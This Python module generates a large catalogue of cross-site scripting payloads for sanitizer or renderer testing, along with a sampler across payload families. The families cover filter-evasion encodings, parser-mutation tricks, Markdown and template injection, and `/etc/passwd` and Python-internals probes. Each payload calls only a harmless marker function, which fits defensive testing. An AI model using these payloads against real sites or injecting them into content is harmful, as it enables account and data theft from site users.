"""Texts that run a script where a page takes them for markup: 300 and more, of every kind known.

Each calls `__ran()`, which a browser that watches gives to its pages. None harms, none leaves the
machine.
"""

from collections.abc import Iterator
from typing import Final

CALL: Final = "__ran()"
_J: Final = CALL
_CODES: Final = ",".join(str(ord(sign)) for sign in CALL)
_ENTITIES: Final = "".join(f"&#{ord(sign)};" for sign in CALL)
_ENCODED: Final = "".join(f"%{ord(sign):02x}" for sign in CALL)

_SCRIPTS: Final = (
    f"<script>{_J}</script>",
    f"<ScRiPt>{_J}</sCrIpT>",
    f"<script >{_J}</script >",
    f"<script/x>{_J}</script/x>",
    f"<script\t>{_J}</script\n>",
    f"<script type=module>{_J}</script>",
    f"<script src=data:,{_J}></script>",
    f"<script src='data:text/javascript,{_J}'></script>",
    f"<scr<script>ipt>{_J}</scr</script>ipt>",
    f"<script>{_J}",
    f"<script>/*<!--*/{_J}//--></script>",
    f"<script><!--\n{_J}\n--></script>",
    f"<svg><script>{_J}</script></svg>",
    f"<svg><script href=data:,{_J} /></svg>",
    f"<svg><script xlink:href=data:,{_J}></script></svg>",
    f"<math><script>{_J}</script></math>",
    f"<noscript></noscript><script>{_J}</script>",
    f"<script>eval(String.fromCharCode({_CODES}))</script>",
    f"<script>setTimeout('{_J}')</script>",
    f"<script>Function('{_J}')()</script>",
    "<script>self['__r'+'an']()</script>",
    f"<script>`${{{_J}}}`</script>",
    f"<script async defer>{_J}</script>",
    f"<script language=vbscript></script><script>{_J}</script>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_J}</x:script>",
)
_HANDLERS: Final = (
    ("img src=x", "onerror"),
    ("img src", "onerror"),
    ("img src=/theme/none.png", "onerror"),
    ("img src=/images/fore-edges.svg", "onload"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x to=y", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("svg><a><rect width=9 height=9", "onclick"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a tabindex=0 autofocus", "onfocus"),
    ("div contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("dialog open", "oncancel"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video autoplay", "onloadstart"),
    ("iframe", "onload"),
    ("iframe src=/", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("form", "onsubmit"),
    ("p", "onmouseover"),
    ("p", "onpointerenter"),
    ("b", "onclick"),
    ("i", "oncopy"),
    ("u", "onauxclick"),
    ("xss id=x tabindex=1", "onfocusin"),
    ("p style=animation-name:x", "onanimationstart"),
    ("p style=transition:0s", "ontransitionend"),
    ("table background=x", "onmouseenter"),
    ("meter", "onmouseover"),
    ("math", "onclick"),
)
_SHAPES: Final = (
    "<{tag} {event}={call}>",
    '<{tag} {event}="{call}">',
    "<{upper} {event}='{call}'>",
)
_SPACING: Final = (
    f"<img/src=x/onerror={_J}>",
    f"<img\tsrc=x\tonerror={_J}>",
    f"<img\nsrc=x\nonerror\n=\n{_J}>",
    f"<img\fsrc=x\fonerror={_J}>",
    f"<img src=x onerror\u00a0={_J}>",
    f"<img src=x onerror=`{_J}`>",
    f'<img src=x:x onerror="{_ENTITIES}">',
    f"<img src=x onerror={_J}//",
    f"<img src=x onerror={_J} <b>",
    f"<img src='x' 'onerror={_J}'>",
    f'<img """><script>{_J}</script>">',
    f"<img src=x oneonerrorrror={_J} onerror={_J}>",
    f"<<img src=x onerror={_J}>>",
    "<img src=x onerror=window['\\x5f_ran']()>",
    f"<svg/onload={_J}>",
    f"<svg\u2028onload={_J}>",
    f"<svg onload={_J}//",
    f"<svg id=x onload={_J}></svg>",
    f"< img src=x onerror={_J}>",
    f"<img src=x onerror={_J}\u0000>",
)
_BREAKS: Final = (
    '"', "'", '">', "'>", "`>", '"/>', "--></", "-->", "]]>", "</title>", "</textarea>", "</style>",
    "</script>", "</noscript>", "</template>", "</option></select>", "</h1>", "</a>",
    "</code></pre>",
    "</svg>", "</math>", "</xmp>", "</iframe>", "</p></div></main>", '\\">', "\\'>", "&quot;>",
    "*/", "%>", "?>", "}}", "{% endraw %}", "\n\n", "\r\n\r\n",
)  # fmt: skip
_ATTRIBUTES: Final = (
    f'" onmouseover="{_J}',
    f"' onmouseover='{_J}",
    f'" autofocus onfocus={_J} x="',
    f"' autofocus onfocus={_J} x='",
    f'" onerror={_J} src=x x="',
    f'x" onload="{_J}" y="',
    f" onfocus={_J} autofocus ",
    f'" style="animation-name:x" onanimationstart="{_J}',
    f'"accesskey=x onclick="{_J}',
    f'" formaction=javascript:{_J} x="',
    f'" href="javascript:{_J}',
    f'" srcdoc="<script>parent.{_J}</script>" x="',
)
_ADDRESSES: Final = (
    f"javascript:{_J}",
    f"JaVaScRiPt:{_J}",
    f" javascript:{_J}",
    f"\x01javascript:{_J}",
    f"java\tscript:{_J}",
    f"java\nscript:{_J}",
    f"java&#9;script:{_J}",
    f"java&Tab;script:{_J}",
    f"javascript&colon;{_J}",
    f"&#106;avascript:{_J}",
    f"&#x6A;avascript:{_J}",
    f"javascript://%0a{_J}",
    f"javascript:{_ENCODED}",
    f"javascript:void({_J})",
    f"vbscript:{_J}",
    f"livescript:{_J}",
    f"data:text/html,<script>parent.{_J}</script>",
    f"data:text/html;charset=utf-7,+ADw-script+AD4-{_J}+ADw-/script+AD4-",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_J}'/>",
    f"view-source:javascript:{_J}",
)
_HOLDERS: Final = (
    "{0}",
    '<a href="{0}">x</a>',
    '<iframe src="{0}"></iframe>',
    "[x]({0})",
)
_MORE_HOLDERS: Final = (
    f'<form action="javascript:{_J}"><input type=submit></form>',
    f'<button form=x formaction="javascript:{_J}">x</button>',
    f'<object data="javascript:{_J}"></object>',
    f'<embed src="javascript:{_J}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_J}">',
    f'<base href="javascript:{_J}//">',
    f'<area href="javascript:{_J}">',
    f'<svg><a href="javascript:{_J}"><text y=9>x</text></a></svg>',
    f'<svg><a><animate attributeName=href values="javascript:{_J}" /><text y=9>x</text></a></svg>',
    f'<math href="javascript:{_J}">x</math>',
    f'<link rel=import href="javascript:{_J}">',
    f'<iframe srcdoc="<script>parent.{_J}</script>"></iframe>',
    f"<iframe srcdoc='&lt;script&gt;parent.{_J}&lt;/script&gt;'></iframe>",
    f'<object data="data:text/html,<script>parent.{_J}</script>"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4oKTwvc2NyaXB0Pg==">',
    f'<body background="javascript:{_J}">',
    f"<isindex type=image src=1 onerror={_J}>",
    f'<img srcset="x" onerror={_J}>',
    f'<img src="javascript:{_J}">',
    f'<a href="x" ping="javascript:{_J}">x</a>',
)
_MARKDOWN: Final = (
    f"![x](javascript:{_J})",
    f"[x][r]\n\n[r]: javascript:{_J}",
    f"<javascript:{_J}>",
    f'![x](x"onerror="{_J})',
    f"![x](x 'y' onerror={_J})",
    f'[x](x "y\\" onmouseover=\\"{_J}")',
    f"[x](<javascript:{_J}>)",
    f"[x](java&#x73;cript:{_J})",
    "[x](data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+)",
    f"`</code><script>{_J}</script>`",
    f"```html\n</code></pre><script>{_J}</script>\n```",
    f"    </code></pre><script>{_J}</script>",
    f"# <img src=x onerror={_J}>",
    f"# x {{: onclick={_J} }}",
    f'x {{: onmouseover="{_J}" autofocus }}',
    f"| <svg onload={_J}> |\n|---|\n| x |",
    f"[^1]\n\n[^1]: <img src=x onerror={_J}>",
    f'*[x]: " onmouseover="{_J}\n\nx',
    f'!!! note "<img src=x onerror={_J}>"\n    x',
    f"> <details open ontoggle={_J}>",
    f"<div markdown=1>\n<img src=x onerror={_J}>\n</div>",
    f"[<img src=x onerror={_J}>](x)",
    f'!["onerror="{_J}](x)',
    f"\\<script>{_J}\\</script>",
    f"x\n:   <svg onload={_J}>",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ 7*7 }}<script>__ran()</script>",
    "{{constructor.constructor('__ran()')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}<img src=x onerror=__ran()>",
    "{% raw %}</script><script>__ran()</script>{% endraw %}",
    "{# </title> #}<svg onload=__ran()>",
    "${__ran()}",
    "#{__ran()}",
    "<%= __ran() %>",
    "[[${__ran()}]]",
    "{{ '<script>__ran()</script>'|safe }}",
    "{{ self.__init__.__globals__ }}",
    "<!-- title --><script>__ran()</script>",
    "<!-- content --><script>__ran()</script>",
    "<!-- end of contact form --><script>__ran()</script>",
    '|filename|x" onload="__ran()',
    "{filename}x' onload='__ran()",
    "{static}</a><svg onload=__ran()>",
)
_TITLED: Final = f'<img title="--&gt;&lt;img src=1 onerror={_J}&gt;">'
_MUTATIONS: Final = (
    f"<math><mtext><table><mglyph><style><!--</style>{_TITLED}",
    f'<svg></p><style><a id="</style><img src=1 onerror={_J}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_J}>",
    f'<noscript><p title="</noscript><img src=x onerror={_J}>">',
    f"<listing>&lt;img onerror={_J} src=x&gt;</listing>",
    f"<xmp><img src=x onerror={_J}></xmp>",
    f"<plaintext><img src=x onerror={_J}>",
    f"<template><img src=x onerror={_J}></template>",
    f"<select><template><img src=x onerror={_J}></template></select>",
    f'<math><mi//xlink:href="data:x,<script>{_J}</script>">',
    f'<svg><style><img src="</style><img src=x onerror={_J}//">',
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_J}</script>'></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={_J}></desc></svg>",
    f"<table><td><svg><style><!--</td><img src=x onerror={_J}>-->",
    f"<p><svg><title><style><img src='</style></title><img src=x onerror={_J}>'>",
    f"<!--><img src=x onerror={_J}>-->",
    f"<!--!><img src=x onerror={_J}>-->",
    f"<!-- --!><img src=x onerror={_J}>",
    f"<![CDATA[<img src=x onerror={_J}>]]>",
    f"<![CDATA[]]><svg onload={_J}>",
    f"<?xml-stylesheet href='javascript:{_J}'?><svg onload={_J}>",
    f"<!ENTITY x '<svg onload={_J}>'>&x;",
    f'<img alt="<x" title="/><img src=x onerror={_J}>">',
    f"<a id='<b id=\"'><img src=x onerror={_J}>",
    f"<div id=getElementById></div><form name=cookie><svg onload={_J}>",
)  # fmt: skip
_CODED: Final = (
    f"\uff1cscript\uff1e{_J}\uff1c/script\uff1e",
    f"\\u003cscript\\u003e{_J}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_J}\\x3c/script\\x3e",
    f"&lt;script&gt;{_J}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_J}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{_J}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_J}&#x3c;/script&#x3e;",
    f"&#0000060script&#0000062{_J}&#0000060/script&#0000062",
    f"%3Cscript%3E{_J}%3C/script%3E",
    f"%253Cscript%253E{_J}%253C/script%253E",
    f"+ADw-script+AD4-{_J}+ADw-/script+AD4-",
    f"\u202e<script>{_J}</script>",
    f"\u200b<script\u200b>{_J}</script>",
    f"<\u200bscript>{_J}</script>",
    f"<scr\u0131pt>{_J}</scr\u0131pt>",
    f"<\u017fcript>{_J}</\u017fcript>",
    f"<script>\u2028{_J}\u2029</script>",
    f"\ufeff<script>{_J}</script>",
    "<script>\\u005f\\u005fran()</script>",
    f"&lt;img src=x onerror={_J}&gt;",
    f"&NewLine;<img src=x onerror={_J}>",
    f"<mark>x</mark><img src=x onerror={_J}>",
)  # fmt: skip
_DATA: Final = (
    f"</script><script>{_J}</script>",
    f"</SCRIPT ><script>{_J}</script>",
    f'"}}</script><script>{_J}</script>',
    f'"}}];{_J}//',
    f'\\"}});{_J}//',
    f"<!--<script>{_J}</script>",
    f"<!--<script></script><script>{_J}//",
    f"\\u003c/script>\\u003cscript>{_J}\\u003c/script>",
    f"\u2028{_J}",
    f"'-{_J}-'",
    f'"-{_J}-"',
    f"';{_J};'",
    f"`-{_J}-`",
    f"\\';{_J}//",
    f"</script><svg onload={_J}>",
    f"]]></content><script xmlns='http://www.w3.org/1999/xhtml'>{_J}</script>",
)
_STYLES: Final = (
    f"<style>@import 'javascript:{_J}';</style>",
    f'<div style="background:url(javascript:{_J})">x</div>',
    f'<div style="width:expression({_J})">x</div>',
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend={_J}>x</p>",
    f'<link rel=stylesheet href="data:text/css,*{{background:url(javascript:{_J})}}">',
    f"<style>*{{x:expression({_J})}}</style>",
    f"<style>*{{-moz-binding:url('data:text/xml,{_J}')}}</style>",
    f"</style><script>{_J}</script><style>",
    f"<style/onload={_J}>",
    f"x;background:url(javascript:{_J})",
)  # fmt: skip


def _families() -> Iterator[list[str]]:
    yield list(_SCRIPTS)
    yield [
        shape.format(tag=tag, upper=tag.upper(), event=event, call=CALL)
        for tag, event in _HANDLERS
        for shape in _SHAPES
    ]
    yield list(_SPACING)
    yield [f"{closing}<img src=x onerror={CALL}>" for closing in _BREAKS]
    yield list(_ATTRIBUTES)
    yield [holder.format(address) for address in _ADDRESSES for holder in _HOLDERS]
    yield from map(list, (_MORE_HOLDERS, _MARKDOWN, _TEMPLATES, _MUTATIONS, _CODED, _DATA, _STYLES))


FAMILIES: Final = tuple(_families())
PAYLOADS: Final = tuple(dict.fromkeys(payload for family in FAMILIES for payload in family))


def choose(count: int) -> list[str]:
    """Return so many of them, of each family as many as its size gives it, and one at least."""
    if count >= len(PAYLOADS):
        return list(PAYLOADS)
    shares = [max(1, round(count * len(family) / len(PAYLOADS))) for family in FAMILIES]
    chosen = [
        family[number * len(family) // share]
        for family, share in zip(FAMILIES, shares, strict=True)
        for number in range(share)
    ]
    return list(dict.fromkeys(chosen))
